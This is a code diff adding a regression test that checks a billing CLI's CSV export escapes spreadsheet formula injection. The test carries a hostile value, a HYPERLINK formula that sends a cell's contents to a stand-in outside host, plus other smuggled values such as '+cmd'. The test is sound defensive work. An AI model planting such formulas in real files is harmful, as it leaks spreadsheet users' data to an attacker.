@@ -180,3 +180,23 @@ def test_a_cache_hit_is_margins_own_charge(tmp_path: Path) -> None:
             assert sent["ProviderName"] == sent["InvoiceIssuerName"] == "api"
     finally:
         engine.dispose()
+
+
+def test_no_csv_cell_is_a_formula_a_spreadsheet_would_run(engine: sa.Engine, tmp_path: Path) -> None:
+    """Team, key, model, region and tier cells were made text (`'=…`) but the billing account (`--account`, which
+    a script may fill from a customer's name) and the provider (a backend the config no longer names is shown by
+    its name as the ledger holds it) were written as given: `=HYPERLINK(…)` ran when the file was opened."""
+    hostile = '=HYPERLINK("https://x/?"&A1)'
+    with engine.begin() as connection:
+        extra = ledgers.row("x1", team="+cmd", backend="@gone", key_id="-2+3", tags={"feature": "-2+3"}, cost_nanousd=5)
+        ingest.ingest_batch(connection, [extra])
+    out = tmp_path / "f.csv"
+    args = ["export", "focus", "--period", "2026-11", "--out", str(out), "--db", str(engine.url.database)]
+    result = CliRunner().invoke(app, [*args, "--account", hostile, "--tags", "feature"])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(out.read_text().splitlines()))[1:]
+    cells = [cell for row in rows for cell in row]
+    number = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
+    formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@") and not number.fullmatch(cell)]
+    assert formulas == [], formulas
+    assert "'" + hostile in cells and "'@gone" in cells and "'+cmd" in cells
